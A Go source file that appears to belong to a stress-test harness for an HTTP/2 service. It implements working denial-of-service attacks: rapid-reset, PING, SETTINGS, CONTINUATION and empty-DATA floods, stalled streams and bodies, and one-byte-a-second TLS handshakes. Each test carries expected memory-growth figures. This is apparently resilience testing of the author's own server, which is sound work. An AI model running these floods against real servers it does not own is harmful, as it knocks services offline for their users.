//go:build linux

package main

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"time"
)

// http2Attacks need TLS: browsers speak HTTP/2 over it only.
var http2Attacks = []Attack{
	http2Flood("requests that are reset at once", "rapid reset", func(h *http2, i int) []byte {
		return append(h.request(i, "/livez"), h.reset(i)...)
	}),
	http2Flood("streams that are reset at once", "rapid reset", func(h *http2, i int) []byte {
		return append(h.request(i, "/sse?userId=u"), h.reset(i)...)
	}),
	http2Flood("PING", "C16", func(*http2, int) []byte {
		return http2Frame(framePing, 0, 0, make([]byte, 8))
	}),
	http2Flood("SETTINGS", "C16", func(*http2, int) []byte {
		return http2Frame(frameSettings, 0, 0, nil)
	}),
	http2Flood("empty DATA", "C16", func(h *http2, i int) []byte {
		if i == 0 {
			return http2Frame(frameHeaders, endHeaders, 1, h.headers("POST", "/v1/notifications"))
		}
		return http2Frame(frameData, 0, 1, nil)
	}),
	http2Flood("CONTINUATION", "D07", func(h *http2, i int) []byte {
		if i == 0 {
			return http2Frame(frameHeaders, 0, 1, h.headers("GET", "/livez"))
		}
		return http2Frame(frameContinuation, 0, 1, literal("x", strings.Repeat("x", 1000)))
	}),
	{
		Name: "1,000 deaf streams over 10 connections of HTTP/2", Row: "issue 3, D03", TLS: true,
		Settings: deafSettings, Figure: Figure{Growth: deafClients*48<<10 + 48<<20},
		Run: http2Deaf,
	},
	{
		Name: "HTTP/2: 25,000 bodies that do not end, over 100 connections", Row: "D07", TLS: true,
		Figure: Figure{Growth: 128 << 20}, Run: http2SlowBodies,
	},
	{
		Name: "TLS handshakes of one byte a second, 500 connections", Row: "C13", TLS: true,
		Figure: Figure{Growth: 16 << 20, Closed: 11 * time.Second}, Run: slowHandshakes,
	},
}

// Frames and flags of HTTP/2, RFC 9113.
const (
	frameData         = 0x0
	frameHeaders      = 0x1
	frameReset        = 0x3
	frameSettings     = 0x4
	framePing         = 0x6
	frameContinuation = 0x9
	endStream         = 0x1
	endHeaders        = 0x4
)

// http2 is a connection of HTTP/2 whose answers an attack does not need.
type http2 struct {
	net.Conn
	host string
}

// openHTTP2 opens a connection. Streams start with a window of so many bytes.
func (t *target) openHTTP2(ctx context.Context, source int, window uint32) (*http2, error) {
	plain := &target{addr: t.addr}
	conn, err := plain.dial(ctx, source)
	if err != nil {
		return nil, err
	}
	if conn, err = t.handshake(ctx, conn, "h2"); err != nil {
		return nil, err
	}
	setting := binary.BigEndian.AppendUint32([]byte{0, 4}, window) // SETTINGS_INITIAL_WINDOW_SIZE
	start := append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
		http2Frame(frameSettings, 0, 0, setting)...)
	if _, err := conn.Write(start); err != nil {
		_ = conn.Close()
		return nil, err
	}
	return &http2{conn, t.addr}, nil
}

func http2Frame(kind, flags byte, stream int, payload []byte) []byte {
	n := len(payload)
	f := []byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags}
	f = binary.BigEndian.AppendUint32(f, uint32(stream))
	return append(f, payload...)
}

// request is GET request number i.
func (h *http2) request(i int, path string) []byte {
	return http2Frame(frameHeaders, endStream|endHeaders, 2*i+1, h.headers("GET", path))
}

// reset cancels request number i.
func (h *http2) reset(i int) []byte {
	return http2Frame(frameReset, 0, 2*i+1, []byte{0, 0, 0, 8})
}

// headers are those of a request, without compression.
func (h *http2) headers(method, path string) []byte {
	block := literal(":method", method)
	block = append(block, literal(":scheme", "https")...)
	block = append(block, literal(":authority", h.host)...)
	return append(block, literal(":path", path)...)
}

// literal is a header field without an index, RFC 7541 section 6.2.2.
func literal(name, value string) []byte {
	field := []byte{0}
	for _, text := range []string{name, value} {
		field = append(length(field, len(text)), text...)
	}
	return field
}

// length appends an integer with a prefix of 7 bits, RFC 7541 section 5.1.
func length(b []byte, n int) []byte {
	const most = 127
	if n < most {
		return append(b, byte(n))
	}
	b = append(b, most)
	for n -= most; n >= 128; n >>= 7 {
		b = append(b, byte(n%128+128))
	}
	return append(b, byte(n))
}

// http2Flood is an attack by one connection that sends frames 0, 1 and so on, and reads the
// answers.
func http2Flood(name, row string, frames func(h *http2, i int) []byte) Attack {
	return Attack{
		Name: "HTTP/2: flood of " + name, Row: row, TLS: true,
		Figure: Figure{Growth: 32 << 20},
		Run: func(ctx context.Context, t *target) error {
			ctx, cancel := context.WithTimeout(ctx, t.hold(10*time.Second))
			defer cancel()
			h, err := t.openHTTP2(ctx, 1, 65535)
			if err != nil {
				return err
			}
			defer h.Close()
			go h.flood(ctx, frames)
			t.did.end(discard(h))
			<-ctx.Done()
			return nil
		},
	}
}

func (h *http2) flood(ctx context.Context, frames func(h *http2, i int) []byte) {
	const chunk = 16 << 10
	var b []byte
	for i := 0; ctx.Err() == nil; {
		for b = b[:0]; len(b) < chunk; i++ {
			b = append(b, frames(h, i)...)
		}
		if _, err := h.Write(b); err != nil {
			return
		}
	}
}

// http2Deaf opens streams that may receive 1,000 bytes each, and publishes to them.
func http2Deaf(ctx context.Context, t *target) error {
	const each = 100
	join := func(ctx context.Context, t *target, i int) (io.ReadCloser, error) {
		if i%each > 0 {
			return nil, errAnother
		}
		h, err := t.openHTTP2(ctx, i/each, 1000)
		if err != nil {
			return nil, err
		}
		for j := range each {
			path := fmt.Sprintf("/sse?userId=deaf%d&channels=deaf", i+j)
			if _, err := h.Write(h.request(j, path)); err != nil {
				_ = h.Close()
				return nil, err
			}
		}
		go discard(h)
		return h, nil
	}
	return deaf(ctx, t, 30_000, 20, join)
}

// http2SlowBodies opens as many requests as each connection may, and sends no byte of their bodies.
func http2SlowBodies(ctx context.Context, t *target) error {
	ctx, cancel := context.WithTimeout(ctx, t.hold(20*time.Second))
	defer cancel()
	n := t.n(100)
	each(n, n, func(i int) {
		h, err := t.openHTTP2(ctx, i%8, 65535)
		if err != nil {
			t.did.add(outcome(err))
			return
		}
		defer h.Close()
		var b []byte
		for j := range 250 {
			headers := h.headers("POST", "/v1/notifications")
			b = append(b, http2Frame(frameHeaders, endHeaders, 2*j+1, headers)...)
		}
		if _, err := h.Write(b); err != nil {
			t.did.add(outcome(err))
			return
		}
		t.did.add("connection")
		_ = discard(h)
	})
	return nil
}

// errAnother counts the streams that share the connection of another one.
var errAnother = errors.New("joined on it")

func slowHandshakes(ctx context.Context, t *target) error {
	ctx, cancel := context.WithTimeout(ctx, 14*time.Second)
	defer cancel()
	plain := &target{addr: t.addr}
	n := t.n(500)
	each(n, n, func(i int) {
		conn, err := plain.dial(ctx, i%8)
		if err != nil {
			t.did.add(outcome(err))
			return
		}
		defer conn.Close()
		go trickle(ctx, conn, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
		t.did.end(discard(conn))
	})
	return nil
}
